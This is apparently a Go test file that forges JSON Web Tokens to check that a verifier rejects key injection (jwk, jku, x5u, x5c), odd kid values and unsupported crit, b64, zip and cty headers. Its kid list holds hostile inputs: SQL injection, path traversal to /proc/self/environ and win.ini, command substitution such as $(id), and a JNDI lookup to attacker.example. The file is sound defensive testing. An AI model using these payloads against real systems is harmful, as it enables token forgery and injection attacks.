package hostile

import (
	"crypto/ecdsa"
	"crypto/ed25519"
	"crypto/sha256"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/base64"
	"fmt"
	"math/big"
	"strings"
	"time"
)

// keyInjection: tokens that bring their key, or name an address to fetch it from, which is at. A verifier ignores
// both: the key that it knows by the kid decides.
func (f *forge) keyInjection(at string) {
	b := f.batch("key-injection", "J4", Signature, "signature")
	point, err := f.keys["attacker"].Public().(*ecdsa.PublicKey).Bytes()
	if err != nil {
		f.t.Fatal(err)
	}
	jwk := fmt.Sprintf(`{"kty":"EC","crv":"P-256","alg":"ES256","use":"sig","kid":"es256","x":"%s","y":"%s"}`,
		b64(string(point[1:33])), b64(string(point[33:])))
	cert := f.certificate()
	url := `"` + at + `"`
	thumb := sha256.Sum256(cert)
	for _, m := range []struct{ name, value string }{
		{"jwk", jwk}, {"jku", url}, {"x5u", url},
		{"x5c", `["` + base64.StdEncoding.EncodeToString(cert) + `"]`},
		{"jwk", "null"}, {"jwk", `""`}, {"jku", "null"}, {"jku", `""`}, {"x5c", "[]"}, {"x5u", `"file:///etc/passwd"`},
		{"jku", `"https://api.example.com/auth/.well-known/jwks.json"`},
		{"jku", `"https://api.example.com/auth/.well-known/jwks.json#` + at + `"`},
		{"jku", `["` + at + `"]`},
	} {
		short := m.value[:min(len(m.value), 80)]
		b.refuse(fmt.Sprintf("%s %s, its signature", m.name, short), f.token("attacker", header("es256", m.name, m.value), claims()))
		b.accept(fmt.Sprintf("%s %s, the right signature", m.name, short), f.token("es256", header("es256", m.name, m.value), claims()))
	}
	b.refuseFor("unknown_key", "jwk, no kid", f.token("attacker", header("es256", "kid", "", "jwk", jwk), claims()))
	b.refuseFor("malformed", "jwk in kid", f.token("attacker", header("es256", "kid", jwk), claims()))
	b.refuse("jwks", f.token("attacker", header("es256", "jwks", `{"keys":[`+jwk+`]}`), claims()))
	b.refuseFor("algorithm", "jwk of a shared secret", f.macToken(header("hs256", "kid", `"es256"`, "jwk", `{"kty":"oct","k":"AAAA"}`), []byte{0, 0, 0}))
	b.refuseFor("algorithm", "k as a member", f.macToken(header("hs256", "kid", `"es256"`, "k", `"AAAA"`), []byte{0, 0, 0}))
	b.refuseFor("signature", "x5t#S256", f.token("attacker", header("es256", "x5t#S256", `"`+b64(string(thumb[:]))+`"`), claims()))
	b.refuseFor("signature", "kty, crv, x and y as members", f.token("attacker", header("es256", "kty", `"EC"`, "crv", `"P-256"`,
		"x", `"`+b64(string(point[1:33]))+`"`, "y", `"`+b64(string(point[33:]))+`"`), claims()))
	b.refuseFor("signature", "another key", f.token("attacker", header("es256"), claims()))
	b.accept("x5t of nothing known, the right signature", f.token("es256", header("es256", "x5t", `"AAAA"`), claims()))
}

func (f *forge) macToken(header string, key []byte) string {
	input := b64(header) + "." + b64(claims())
	return input + "." + b64(mac(256, key, input))
}

// certificate is of the attacker's key, by a key whose signatures are the same every time.
func (f *forge) certificate() []byte {
	template := &x509.Certificate{SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "api.example.com"},
		NotBefore: now.Add(-time.Hour), NotAfter: now.AddDate(10, 0, 0)}
	cert, err := x509.CreateCertificate(nil, template, template, f.keys["attacker"].Public(), f.keys["eddsa"].(ed25519.PrivateKey))
	if err != nil {
		f.t.Fatal(err)
	}
	return cert
}

// kid: names of keys that nobody has, or that are no names.
func (f *forge) kid() {
	b := f.batch("kid", "J5", Signature, "unknown_key")
	for _, kid := range []string{"nobody", "Es256", "ES256", " es256", "es256 ", "es256/", "es25", "es2566", `es256\u0000`, `\u0000`, `es256\n`,
		"' OR '1'='1", "es256' --", "x' UNION SELECT 'AA", `es256\";--`,
		"../../../../../../dev/null", "/dev/null", "/proc/self/environ", `..\\..\\..\\windows\\win.ini`, "file:///dev/null",
		"http://attacker.example/jwks.json", "//attacker.example/k", "$(id)", "|id", "`id`", "${jndi:ldap://attacker.example/a}", "{{7*7}}", "%s%n",
		"*", "?", ".*", "*)(kid=*", "__proto__", "constructor", "0", "null", "\uFF45s256", "es\u200b256", "e\u0455256"} {
		b.refuse(fmt.Sprintf("%q", kid), f.token("es256", header("es256", "kid", `"`+kid+`"`), claims()))
	}
	b.refuse("/dev/null, keyed with nothing", f.macToken(header("hs256", "kid", `"/dev/null"`), nil))
	b.refuse("SQL that yields AA, keyed with AA", f.macToken(header("hs256", "kid", `"x' UNION SELECT 'AA"`), []byte("AA")))
	b.refuse("none where there are several keys", f.token("es256", header("es256", "kid", ""), claims()))
	b.refuse("256 bytes", f.token("es256", header("es256", "kid", `"`+strings.Repeat("k", 256)+`"`), claims()))
	b.refuse("null where there are several keys", f.token("es256", header("es256", "kid", "null"), claims()))
	for _, kid := range []string{"true", "0", "1", `["es256"]`, "[]", "{}", `{"kid":"es256"}`, `""`} {
		b.refuseFor("malformed", kid, f.token("es256", header("es256", "kid", kid), claims()))
	}
	b.refuseFor("malformed", "257 bytes", f.token("es256", header("es256", "kid", `"`+strings.Repeat("k", 257)+`"`), claims()))
	b.refuseFor("malformed", "5,000 bytes", f.token("es256", header("es256", "kid", `"`+strings.Repeat("k", 5000)+`"`), claims()))
	b.accept("escaped", f.token("es256", header("es256", "kid", `"\u0065s256"`), claims()))

	b.Keys = "one"
	b.accept("none where there is one key", f.token("es256", header("es256", "kid", ""), claims()))
	b.refuse("another where there is one key", f.token("es256", header("es256", "kid", `"es384"`), claims()))
	b.refuseFor("malformed", "empty where there is one key", f.token("es256", header("es256", "kid", `""`), claims()))
}

// crit: extensions that must be understood, and none is.
func (f *forge) crit() {
	b := f.batch("crit", "J6", Signature, "malformed")
	for _, m := range [][]string{
		{"crit", `["exp"]`, "exp", at(600)}, {"crit", `["x"]`}, {"crit", `["x"]`, "x", "1"}, {"crit", `["alg"]`}, {"crit", `["crit"]`}, {"crit", "[]"}, {"crit", `[""]`},
		{"crit", "null"}, {"crit", `"exp"`}, {"crit", "{}"}, {"crit", "true"}, {"crit", "false"}, {"crit", "0"}, {"crit", `[null]`}, {"crit", `[1]`}, {"crit", `["exp","exp"]`, "exp", "1"},
		{"crit", `["http://example.com/undefined"]`, "http://example.com/undefined", "true"}, {"crit", `["b64"]`, "b64", "true"}, {`c\u0072it`, `["x"]`, "x", "1"},
	} {
		b.refuse(strings.Join(m, " "), f.token("es256", header("es256", m...), claims()))
	}
}

// nested: headers that change what the payload is.
func (f *forge) nested() {
	b := f.batch("b64-zip-cty", "J7", Signature, "malformed")
	for _, m := range [][]string{
		{"b64", "false"}, {"b64", "false", "crit", `["b64"]`}, {"b64", "true"}, {"b64", "null"}, {"b64", `"false"`},
		{"zip", `"DEF"`}, {"zip", `""`}, {"zip", "null"}, {"zip", `"none"`}, {"enc", `"A256GCM"`}, {"enc", "null"},
		{"cty", `"JWT"`}, {"cty", `"jwt"`}, {"cty", `"application/jwt"`}, {"cty", `"APPLICATION/JWT"`}, {"cty", `["JWT"]`},
	} {
		b.refuse(strings.Join(m, " "), f.token("es256", header("es256", m...), claims()))
	}
	raw := b64(header("es256", "b64", "false", "crit", `["b64"]`)) + "." + claims()
	b.refuse("payload not encoded, as b64 false has it", raw+"."+b64(f.signature("es256", raw)))
	detached := strings.Split(f.good(), ".")
	b.refuseFor("signature", "payload detached", detached[0]+".."+detached[2])
	b.refuse("token in a token", f.token("es256", header("es256", "cty", `"JWT"`), f.good()))

	b = f.batch("b64-zip-cty", "J7", JSON, "malformed")
	b.refuse("token in a token, not announced", f.token("es256", header("es256"), f.good()))
	b.refuse("token in a token, in quotes", f.token("es256", header("es256"), `"`+f.good()+`"`))
}
